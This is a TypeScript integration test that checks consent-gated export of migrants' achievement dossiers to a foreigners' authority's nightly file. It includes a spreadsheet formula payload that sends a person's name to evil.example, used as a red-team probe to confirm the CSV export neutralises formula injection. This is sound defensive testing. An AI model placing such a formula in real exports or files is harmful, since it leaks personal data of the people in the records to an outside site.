/**
 * The dossier (issue 19, item 3) to an Ausländerbehörde whose channel is the nightly file (the
 * demo's Ausländerbehörde Stadt Rheine takes files): the worker's nightly run writes it into the
 * authority's export only under the person's consent naming that authority, for case coordination,
 * covering education and work. Without one it is refused when sent; with one that no longer holds
 * at night (expired after the dossier was queued), the export leaves it out and says so in the
 * ledger. Expected answers from the issue, not from the code: the file holds exactly the dossier
 * of the consenting person, with exactly the chosen achievements.
 */
import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import type { INestApplicationContext } from '@nestjs/common';
import { queueBackendOf } from '@kim/config';
import { HandoffFile, handoffExportLineSchema } from '@kim/contracts';
import { verifyManifest } from '@kim/core';
import { createQueue } from '@kim/messaging';
import { createWorkerApp } from '@kim/worker';
import { startTestHub, type TestHub } from '@kim/test-support/hub';
import { expectEventually } from '@kim/test-support/eventually';
import { OPEN_CASE, RECORD_CONSENT, consentFor, newcomer } from '@kim/test-support/fixtures';

const DOSSIER_TYPE = 'de.kim-hub.achievement-dossier.submitted.v1';
/** A formula that would send the neighbouring cells (the person's name) to another site when the file is opened. */
const FORMULA_NOTE = '=HYPERLINK("https://evil.example/?"&J2&K2;"Nachweise ansehen")';

describe("a dossier to the foreigners' authority over the nightly file", () => {
  let hub: TestHub;
  let worker: INestApplicationContext | undefined;
  let dir: string;
  let abh: TestHub['creds']['agencies'][number];
  const cm = () => hub.token('cm-rheine-1');
  const codeOf = (r: { errors?: any[] }) => r.errors?.[0]?.extensions?.code;

  const SEND = /* GraphQL */ `
    mutation S($input: SendDossierInput!) {
      sendDossier(input: $input) {
        id
        achievementIds
      }
    }
  `;
  const RECORD = /* GraphQL */ `
    mutation R($c: ID!, $a: AchievementInput!, $e: AchievementEvidenceInput!) {
      recordAchievement(caseId: $c, achievement: $a, evidence: $e) {
        id
      }
    }
  `;
  const dossierConsent = (caseId: string, agencyId: string) =>
    consentFor(caseId, agencyId, { purposes: ['CASE_COORDINATION'], categories: ['IDENTITY', 'EDUCATION_WORK'] });

  /** A newcomer's case with a B1 certificate and an integration course. */
  async function caseWithAchievements(familyName: string) {
    const rheine = hub.creds.regions.find((r) => r.key === 'rheine')!.id;
    const c = await hub.gql(cm(), OPEN_CASE, {
      input: { person: newcomer({ name: { givenNames: 'Amina', familyName } }), regionId: rheine },
    });
    if (c.errors) throw new Error(JSON.stringify(c.errors));
    const caseId = c.data.openCase.id as string;
    const reference = (await hub.db.ds.query(`SELECT reference FROM cases WHERE id = $1`, [caseId]))[0]
      .reference as string;
    const ids: string[] = [];
    for (const a of [
      { kind: 'LANGUAGE_CERTIFICATE', achievedOn: '2026-05-20', cefrLevel: 'B1', test: 'DTZ', provider: 'VHS Rheine' },
      { kind: 'INTEGRATION_COURSE', achievedOn: '2026-06-10', provider: 'VHS Rheine' },
    ]) {
      const r = await hub.gql(cm(), RECORD, {
        c: caseId,
        a,
        e: { kind: 'CERTIFICATE', reference: `Z-${familyName}`, seenOn: '2026-06-12' },
      });
      if (r.errors) throw new Error(JSON.stringify(r.errors));
      ids.push(r.data.recordAchievement.id);
    }
    return { caseId, reference, ids };
  }

  /** One night, run to its end (the nightly job and every agency's job it fanned out). */
  const nightly = async () => {
    const queue = createQueue('handoff', queueBackendOf(hub.config));
    try {
      const job = await queue.add('NightlyHandoffJob', { traceId: `test-${randomUUID()}` });
      await expectEventually(
        async () => {
          expect(await job.getState()).toBe('completed');
          const counts = await queue.getJobCounts('waiting', 'active', 'prioritized', 'waiting-children', 'failed');
          expect(counts).toEqual({ waiting: 0, active: 0, prioritized: 0, 'waiting-children': 0, failed: 0 });
        },
        { timeoutMs: 60000, intervalMs: 100 },
      );
    } finally {
      await queue.close();
    }
  };

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'kim-dossier-file-'));
    hub = await startTestHub('dossier_file', { persons: 5, env: { HANDOFF_DIR: dir } });
    abh = hub.creds.agencies.find((a) => a.key === 'abh')!;
    if (abh.channel !== 'file') throw new Error("the demo's Ausländerbehörde should take files");
  });
  afterAll(async () => {
    await worker?.close();
    await hub?.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('lands in the file under a consent naming the authority, and never without one', async () => {
    const jobcenter = hub.creds.agencies.find((a) => a.key === 'jc')!;
    // Consented: the dossier of both achievements goes into the night's file.
    const consented = await caseWithAchievements('Consented');
    await hub.gql(cm(), RECORD_CONSENT, { input: dossierConsent(consented.caseId, abh.id) });
    // The cover note is free text a clerk's spreadsheet opens: written as a formula (red-team probe).
    const sent = await hub.gql(cm(), SEND, {
      input: { caseId: consented.caseId, agencyId: abh.id, achievementIds: consented.ids, note: FORMULA_NOTE },
    });
    expect(sent.errors).toBeUndefined();

    // Without a consent, and with one naming the Jobcenter only: refused, nothing queued.
    const without = await caseWithAchievements('Without');
    const jcOnly = await caseWithAchievements('JobcenterOnly');
    await hub.gql(cm(), RECORD_CONSENT, { input: dossierConsent(jcOnly.caseId, jobcenter.id) });
    const refusals = [
      codeOf(
        await hub.gql(cm(), SEND, { input: { caseId: without.caseId, agencyId: abh.id, achievementIds: without.ids } }),
      ),
      codeOf(
        await hub.gql(cm(), SEND, { input: { caseId: jcOnly.caseId, agencyId: abh.id, achievementIds: jcOnly.ids } }),
      ),
    ];
    expect(refusals).toEqual(['CONSENT_REQUIRED', 'CONSENT_REQUIRED']);

    // Queued under a consent that has expired by the night: checked again at export, left out.
    const expired = await caseWithAchievements('Expired');
    await hub.gql(cm(), RECORD_CONSENT, { input: dossierConsent(expired.caseId, abh.id) });
    const queued = await hub.gql(cm(), SEND, {
      input: { caseId: expired.caseId, agencyId: abh.id, achievementIds: expired.ids },
    });
    expect(queued.errors).toBeUndefined();
    await hub.db.ds.query(
      `UPDATE consents SET valid_from = '2020-01-01', valid_until = '2021-01-01' WHERE case_id = $1 AND recipient_agency_id = $2`,
      [expired.caseId, abh.id],
    );

    worker = await createWorkerApp(hub.config, false);
    await nightly();

    const outbox = path.join(dir, hub.creds.tenantId, abh.id, 'outbox');
    const exports = await readdir(outbox);
    expect(exports).toHaveLength(1);
    const read = (f: string) => readFile(path.join(outbox, exports[0]!, f));
    const manifest = await read(HandoffFile.MANIFEST);
    expect(verifyManifest(abh.webhookSecret, manifest, (await read(HandoffFile.SIGNATURE)).toString())).toBe(true);
    const lines = (await read(HandoffFile.EVENTS_JSONL))
      .toString()
      .split('\n')
      .filter(Boolean)
      .map((l) => handoffExportLineSchema.parse(JSON.parse(l)));
    const dossiers = lines.filter((l) => l.type === DOSSIER_TYPE).map((l) => l.data as any);
    expect(dossiers.map((d) => [d.dossierId, d.caseReference, d.achievements.map((a: any) => a.id).sort()])).toEqual([
      [sent.data.sendDossier.id, consented.reference, [...consented.ids].sort()],
    ]);
    expect(dossiers[0].categories.sort()).toEqual(['education-work', 'identity']);
    expect(dossiers[0].person.identity.familyName).toBe('Consented');
    // The spreadsheet names only the consenting person's dossier too.
    const csv = (await read(HandoffFile.EVENTS_CSV)).toString();
    for (const name of ['Without', 'JobcenterOnly', 'Expired']) expect(csv).not.toContain(name);
    expect(csv).toContain(consented.reference);
    // No cell a spreadsheet would run as a formula (CSV injection): the note stays text, marked
    // by a leading apostrophe as spreadsheets do; events.jsonl keeps it as written.
    const cells = parseCsv<Record<string, string>>(csv, { columns: true }).flatMap((r) => Object.values(r));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULA_NOTE}`);
    expect(dossiers[0].note).toBe(FORMULA_NOTE);

    // The expired one: suppressed at export, the refusal in the ledger and on its timeline.
    const [row] = await hub.db.ds.query(
      `SELECT o.delivery_state FROM outbox_messages o JOIN dossiers d ON d.outbox_id = o.id WHERE d.id = $1`,
      [queued.data.sendDossier.id],
    );
    expect(row.delivery_state).toBe('suppressed');
    const ledger = await hub.db.ds.query(
      `SELECT subject_id, allowed FROM audit_events WHERE action = 'dossier.send' AND agency_id = $1 ORDER BY allowed, subject_id`,
      [abh.id],
    );
    expect(ledger.filter((l: any) => l.subject_id === queued.data.sendDossier.id)).toEqual([
      { subject_id: queued.data.sendDossier.id, allowed: false },
    ]);
    expect(ledger.filter((l: any) => l.subject_id === sent.data.sendDossier.id)).toEqual([
      { subject_id: sent.data.sendDossier.id, allowed: true },
    ]);
  }, 180_000);
});
